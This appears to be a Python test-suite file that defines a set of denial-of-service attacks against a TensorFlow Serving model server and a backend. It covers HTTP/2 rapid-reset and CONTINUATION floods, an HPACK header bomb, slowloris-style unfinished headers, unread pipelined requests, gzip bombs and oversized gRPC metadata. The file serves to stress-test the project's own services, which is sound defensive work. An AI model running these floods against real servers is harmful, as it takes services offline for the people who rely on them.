"""Attacks by way of connections, streams and protocols rather than of what a request holds."""

from __future__ import annotations

import gzip
import socket
import time
from collections import Counter
from collections.abc import Callable, Iterable
from contextlib import ExitStack, suppress

import grpc

from tests.benchmarks.attack import Attack, Target
from tests.benchmarks.raw_requests import field, post

_MEGABYTE = 1_000_000
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HOLD_SECONDS = 8.0
_STATUS = "/tensorflow.serving.ModelService/GetModelStatus"


def _grpc_address(target: Target) -> tuple[str, int]:
    host, _, port = target.grpc.rpartition(":")
    return host, int(port)


def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """An HTTP/2 frame."""
    return len(content).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + content


def _pour(address: tuple[str, int], pieces: Iterable[bytes], *, read: bool = False) -> str:
    """Send everything on one connection, as far as it is taken, and read little or nothing."""
    sent = 0
    with socket.create_connection(address, timeout=10) as connection:
        connection.settimeout(5)
        try:
            for piece in pieces:
                connection.sendall(piece)
                sent += len(piece)
        except OSError:
            return f"refused after {sent / _MEGABYTE:.1f} MB"
        if read:
            with suppress(OSError):
                return connection.recv(64).split(b"\r\n")[0].decode(errors="replace")
    return f"{sent / _MEGABYTE:.1f} MB sent"


def _many(address: tuple[str, int], count: int, first: bytes) -> str:
    """Hold connections that have sent `first` and nothing more."""
    with ExitStack() as stack:
        opened = 0
        for _ in range(count):
            try:
                connection = stack.enter_context(socket.create_connection(address, timeout=5))
                connection.sendall(first)
            except OSError:
                break
            opened += 1
        time.sleep(_HOLD_SECONDS)
    return f"{opened} opened"


def _http2(*frames: bytes) -> Callable[[Target], str]:
    def send(target: Target) -> str:
        start = _PREFACE + _frame(4, 0, 0)
        return _pour(_grpc_address(target), (start, *frames))

    return send


_HEADERS = bytes([0x83, 0x86, 0x84, 0x41, 0x01, 0x61])
"""POST http / with the authority `a`, from HPACK's static table."""
_BOMB_ENTRY = b"\x40\x01a\x7f\x81\x1e" + b"x" * 4000
"""A header of 4,000 bytes that goes into the table; a byte refers to it again."""


def _reset_streams(target: Target) -> str:
    frames = (
        _frame(1, 4, 2 * number + 1, _HEADERS) + _frame(3, 0, 2 * number + 1, bytes(4))
        for number in range(100_000)
    )
    return _pour(_grpc_address(target), (_PREFACE + _frame(4, 0, 0), *(_batched(frames, 500))))


def _batched(frames: Iterable[bytes], count: int) -> Iterable[bytes]:
    batch: list[bytes] = []
    for frame in frames:
        batch.append(frame)
        if len(batch) == count:
            yield b"".join(batch)
            batch = []
    yield b"".join(batch)


def _streams_that_wait(target: Target) -> str:
    frames = (_frame(1, 4, 2 * number + 1, _HEADERS) for number in range(100_000))
    return _pour(_grpc_address(target), (_PREFACE + _frame(4, 0, 0), *(_batched(frames, 500))))


def _watch_health(target: Target) -> str:
    """Streams that never end, of a service that was asked for by nobody."""
    with ExitStack() as stack:
        calls = []
        for _ in range(20):
            channel = stack.enter_context(grpc.insecure_channel(target.grpc))
            watch = channel.unary_stream("/grpc.health.v1.Health/Watch")
            calls += [watch(b"", timeout=_HOLD_SECONDS) for _ in range(500)]
        answers = Counter(str(call.code()) for call in calls)
    return ", ".join(f"{count} {answer}" for answer, count in answers.items())


def _metadata(target: Target) -> str:
    answers: Counter[str] = Counter()
    with grpc.insecure_channel(target.grpc, [("grpc.max_metadata_size", 2**30)]) as channel:
        call = channel.unary_unary(_STATUS)
        for _ in range(10):
            metadata = [(f"x{each}", "y" * 8000) for each in range(100)]
            try:
                call(field(1, field(1, target.model.encode())), metadata=metadata, timeout=5)
                answers["OK"] += 1
            except grpc.RpcError as error:
                answers[error.code().name] += 1
    return ", ".join(f"{count} {answer}" for answer, count in answers.items())


def _many_model_names(target: Target) -> str:
    """Counters that are kept by the name of the model would grow with every request."""
    answers: Counter[str] = Counter()
    with grpc.insecure_channel(target.grpc) as channel:
        call = channel.unary_unary("/tensorflow.serving.PredictionService/Predict")
        for number in range(5_000):
            with suppress(grpc.RpcError):
                call(field(1, field(1, f"{number:x>200}".encode())), timeout=20)
                answers["OK"] += 1
    return f"{answers['OK']} OK"


def _pipelined(address: Callable[[Target], tuple[str, int]], path: str) -> Callable[[Target], str]:
    """Ask again and again on one connection, and read no answer."""

    def send(target: Target) -> str:
        request = f"GET {path} HTTP/1.1\r\nHost: {address(target)[0]}\r\n\r\n".encode()
        return _pour(address(target), (request * 1000 for _ in range(300)))

    return send


def _rest(target: Target) -> tuple[str, int]:
    return target.rest


def _backend(target: Target) -> tuple[str, int]:
    return target.backend


def _gzip_posts(body: Callable[[], bytes], encoding: str = "gzip") -> Callable[[Target], str]:
    def send(target: Target) -> str:
        content = body()
        return post(target, [content], f"Content-Encoding: {encoding}\r\n", len(content))

    return send


def _other_protocol(address: Callable[[Target], tuple[str, int]]) -> Callable[[Target], str]:
    def send(target: Target) -> str:
        hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
        for first in (
            hello,
            _PREFACE,
            b"\x00" * 100_000,
            b"\r\n" * 500_000,
            b"GET " + b"/" * 10**7,
        ):
            with suppress(OSError):
                _pour(address(target), [first])
        return "5 connections"

    return send


def _slow_gzip(target: Target) -> str:
    """A compressed body whose bytes come one by one, each of which is many."""
    content = gzip.compress(bytes(100 * _MEGABYTE), 9)[:2000]

    def pieces() -> Iterable[bytes]:
        for position in range(0, len(content), 100):
            time.sleep(0.5)
            yield content[position : position + 100]

    return post(target, pieces(), "Content-Encoding: gzip\r\n")


def _slow_grpc(target: Target) -> str:
    """Messages that are declared and do not come, on many streams."""
    declared = b"\x00" + (60 * _MEGABYTE).to_bytes(4)
    frames = [
        _frame(1, 4, 2 * number + 1, _HEADERS) + _frame(0, 0, 2 * number + 1, declared)
        for number in range(1000)
    ]
    with ExitStack() as stack:
        for _ in range(50):
            with suppress(OSError):
                connection = stack.enter_context(
                    socket.create_connection(_grpc_address(target), timeout=5)
                )
                connection.sendall(_PREFACE + _frame(4, 0, 0) + b"".join(frames))
        time.sleep(_HOLD_SECONDS)
    return "50 connections"


def _refused_bodies(target: Target) -> str:
    """Bodies of requests that are refused before their bodies are read."""
    answers: Counter[str] = Counter()
    for path in ("/v1/models/none:predict", "/none", "/v1/models/x/versions/9999999999:predict"):
        for _ in range(3):
            answers[post(target, [bytes(90 * _MEGABYTE)], length=90 * _MEGABYTE, path=path)] += 1
    return ", ".join(f"{count} {answer}" for answer, count in answers.items())


def _at_server(name: str, send: Callable[[Target], object]) -> Attack:
    return Attack(name, "model server", send)


def _at_backend(name: str, send: Callable[[Target], object]) -> Attack:
    return Attack(name, "backend", send)


ATTACKS: tuple[Attack, ...] = (
    _at_server("gRPC: 100,000 streams that are reset at once", _reset_streams),
    _at_server("gRPC: 100,000 streams that send nothing", _streams_that_wait),
    _at_server("gRPC: 10,000 watches of the health", _watch_health),
    _at_server(
        "gRPC: a header that refers to 4 kB 200,000 times",
        _http2(
            _frame(1, 4, 1, _HEADERS + _BOMB_ENTRY),
            *(_frame(1, 4, 2 * n + 3, _HEADERS + b"\xbe" * 4000) for n in range(50)),
        ),
    ),
    _at_server(
        "gRPC: 50 MB of headers that continue",
        _http2(
            _frame(1, 0, 1, _HEADERS),
            *(_frame(9, 0, 1, b"\x00\x01b\x7f\x81\x1e" + b"y" * 4000) for _ in range(12_000)),
        ),
    ),
    _at_server(
        "gRPC: 500,000 settings and pings",
        _http2(*([_frame(4, 0, 0) * 1000 + _frame(6, 0, 0, bytes(8)) * 1000] * 250)),
    ),
    _at_server("gRPC: 10 calls with 800 kB of metadata", _metadata),
    _at_server("gRPC: 5,000 names of models that do not exist", _many_model_names),
    _at_server("gRPC: 50,000 messages of 60 MB that are declared alone", _slow_grpc),
    _at_server(
        "gRPC: 1,000 connections that say nothing",
        lambda target: _many(_grpc_address(target), 1000, b""),
    ),
    _at_server("gRPC: other protocols", _other_protocol(_grpc_address)),
    _at_server(
        "REST: 300,000 requests whose answers are not read", _pipelined(_rest, "/v1/models/none")
    ),
    _at_server(
        "REST: 300,000 requests for metrics that are not read",
        _pipelined(_rest, "/monitoring/prometheus/metrics"),
    ),
    _at_server(
        "REST: 1,000 connections that say nothing", lambda target: _many(target.rest, 1000, b"")
    ),
    _at_server(
        "REST: 500 heads that do not end",
        lambda target: _many(target.rest, 500, b"GET / HTTP/1.1\r\nHost: x\r\nX: "),
    ),
    _at_server("REST: other protocols", _other_protocol(_rest)),
    _at_server("REST: 90 MB at addresses that do not exist", _refused_bodies),
    _at_server(
        "REST: 200,000 empty gzip files in one body",
        _gzip_posts(lambda: gzip.compress(b"") * 200_000),
    ),
    _at_server(
        "REST: a gzip file with 50 MB behind its end",
        _gzip_posts(lambda: gzip.compress(b"{}") + bytes(50 * _MEGABYTE)),
    ),
    _at_server("REST: 40 MB of zeros as gzip", _gzip_posts(lambda: bytes(40 * _MEGABYTE))),
    _at_server("REST: a compressed body that comes byte by byte", _slow_gzip),
    _at_server(
        "REST: 50 encodings, one in the other",
        _gzip_posts(lambda: gzip.compress(bytes(_MEGABYTE)), ", ".join(["gzip"] * 50)),
    ),
    _at_backend("300,000 requests whose answers are not read", _pipelined(_backend, "/models")),
    _at_backend(
        "300,000 requests for the page that are not read", _pipelined(_backend, "/page.js")
    ),
    _at_backend(
        "1,000 connections that say nothing", lambda target: _many(target.backend, 1000, b"")
    ),
    _at_backend(
        "300 heads that do not end",
        lambda target: _many(target.backend, 300, b"GET / HTTP/1.1\r\nHost: x\r\nX: "),
    ),
    _at_backend(
        "400 streams of events that are not read",
        lambda target: _many(
            target.backend,
            400,
            f"GET /events HTTP/1.1\r\nHost: {target.backend[0]}\r\n\r\n".encode(),
        ),
    ),
    _at_backend("other protocols", _other_protocol(_backend)),
)
